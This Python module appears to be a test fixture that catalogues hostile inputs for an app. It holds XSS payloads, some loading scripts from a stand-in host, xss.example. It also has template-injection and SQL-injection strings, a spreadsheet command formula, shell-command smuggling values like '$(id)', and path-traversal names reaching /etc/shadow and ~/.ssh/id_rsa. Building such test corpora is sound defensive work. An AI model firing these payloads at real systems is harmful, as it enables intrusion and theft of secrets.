"""What somebody types who wants a page to do more than show it: our own list, by kind of trick.

Each is told apart from the page's own words by `xss`: as the name of an element, an id, a host, or
a variable that a script would set.
"""

import random

EVIL = "//xss.example"
_RUN = "window.xss=1;alert(1)"

TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={EVIL}/a.js></script>",
    f"</p><script>{_RUN}</script><p>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<b id=xss>dik</b>",
    "<xss>element</xss>",
    "<h1 id=xss>kop</h1>",
    f"<iframe id=xss src=https:{EVIL}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=https:{EVIL}/o></object>",
    f"<embed src=https:{EVIL}/e>",
    f"<link rel=stylesheet href=https:{EVIL}/s.css>",
    f"<meta http-equiv=refresh content='0;url=https:{EVIL}'>",
    f"<base href=https:{EVIL}/>",
    f"<form id=xss action=https:{EVIL}><button>Klik</button></form>",
    "<style id=xss>*{display:none}</style>",
    f"<style>@import 'https:{EVIL}/s.css';</style>",
    "<textarea id=xss>",
    "<plaintext>",
    "<!--<b id=xss>-->",
    "<![CDATA[<b id=xss>]]>",
    "<template id=xss><p></template>",
    "<dialog open id=xss>Hallo</dialog>",
    "</textarea></title></style><b id=xss>",
)
HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f"<img id=xss src=https:{EVIL}/p.png>",
    f"<img src=x:x onerror='{_RUN}'/>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video src=x onerror={_RUN}>",
    f"<audio src=https:{EVIL}/a onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<div onpointerover={_RUN} style='position:fixed;inset:0'>",
    f"<a id=xss href=x onclick={_RUN}>klik</a>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"` onload=`{_RUN}",
)
DRAWINGS = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href=https:{EVIL}/x.svg#a></svg>",
    f"<svg><image id=xss href=https:{EVIL}/x.png></svg>",
    f"<svg><foreignObject><b id=xss onclick={_RUN}>",
    "<math><mtext><b id=xss></mtext></math>",
    f"<math href=javascript:{_RUN}>klik</math>",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f"https:{EVIL}/pad",
    "www.xss.example",
    "http://www.xss.example/?q=1",
    "iemand@xss.example",
    "mailto:iemand@xss.example",
    "ftp://xss.example/file",
    f"<https:{EVIL}>",
    "<iemand@xss.example>",
    f"<a href='javascript:{_RUN}'>klik</a>",
    f"blob:https:{EVIL}/1",
)
MARKDOWN = (
    f"[klik](https:{EVIL})",
    f"[klik](javascript:{_RUN})",
    f"![beeld](https:{EVIL}/p.png)",
    f'![beeld](x "onerror={_RUN}")',
    f"[klik][1]\n\n[1]: https:{EVIL}",
    "**dik** en *schuin* en ~~weg~~",
    "# Een kop van mij",
    "- een punt in een lijst",
    "1. een getal in een lijst",
    "> een citaat",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "`code` en ```meer```",
    "    vier spaties ervoor",
    "---",
    "voetnoot[^1]\n\n[^1]: hier",
    ":red[rood] en :blue-background[blauw]",
    ":material/home: :smile: :streamlit:",
    ":small[klein] :badge[etiket]",
    "- [ ] een vakje",
    "\\*ontsnapt\\* \\<b\\>",
)
PATTERNS = (
    "$\\latex{x}$ en $$\\frac{1}{2}$$",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$\\includegraphics{{https:{EVIL}/x.png}}$",
    "{{ 7*7 }} {% raise %} {# weg #}",
    "{{config.__class__.__init__.__globals__}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{name} {0} {0.__class__} {",
    "%s %d %(name)s %n",
    "{{constructor.constructor('alert(1)')()}}",
    "__import__('os').system('true')",
    "'; DROP TABLE people; --",
    "=cmd|' /C calc'!A1",
)
DISGUISED = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;svg onload={_RUN}&#x3e;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "\u202e<b id=xss>gedraaid\u202c",
    "<\u200bscript>alert(1)</\u200bscript>",
    "&amp;lt;b&amp;gt; &nbsp; &copy; &#0;",
    "javas&#99;ript:alert(1)",
    "\u2066https://xss.example\u2069",
    "<\u0131mg src=x onerror=alert(1)>",
    "\u1680<b id=xss>\u3000breed",
)
CORPUS = (*TAGS, *HANDLERS, *DRAWINGS, *ADDRESSES, *MARKDOWN, *PATTERNS, *DISGUISED)

_UP = ("../", "..\\", "....//", "..;/", ".%2e/", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c")
_UP += ("%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%ef%bc%8f", "\uff0e\uff0e/", "..%00/")
_FILES = (
    "etc/passwd",
    "etc/shadow",
    "proc/self/environ",
    "app.py",
    "pyproject.toml",
    "data/app.key",
)
_FILES += (".git/config", ".streamlit/config.toml", "windows/win.ini")
_WHOLE = (
    "/etc/passwd",
    "//etc/passwd",
    "\\\\xss.example\\share",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "~root",
    ".",
    "..",
    "...",
    "/",
    "\\",
    "%2e",
    "%2e%2e",
    "%2f",
    "%5c",
    "%00",
    "%0a",
    "con",
    "nul",
    "aux.txt",
    "a" * 300,
    "a/" * 150,
    "\u202eexe.png",
    "a\nb",
    "a\rb",
    "a\tb",
    " ",
    "\u00e9",
    "nl.md/..",
    "./././app.py",
    "shell.js%00.png",
    "app.css::$DATA",
    "shell.js.",
    "*",
    "?",
    "|true",
    "$(id)",
    "`id`",
    ";id",
    "--help",
    "-",
    "<script>",
    "%",
    "%zz",
    "%u002e%u002e",
    "app.key",
    "people",
    "records",
)


def traversals() -> tuple[str, ...]:
    """Return names that try to lead out of a folder, each once."""
    found = [f"{up * depth}{file}" for up in _UP for depth in (1, 4, 9) for file in _FILES]
    # Every way up is there with at least one file, and no more than a run needs.
    chosen = random.Random(1).sample(found, 150)
    return tuple(dict.fromkeys((*(f"{up * 8}{_FILES[0]}" for up in _UP), *chosen, *_WHOLE)))
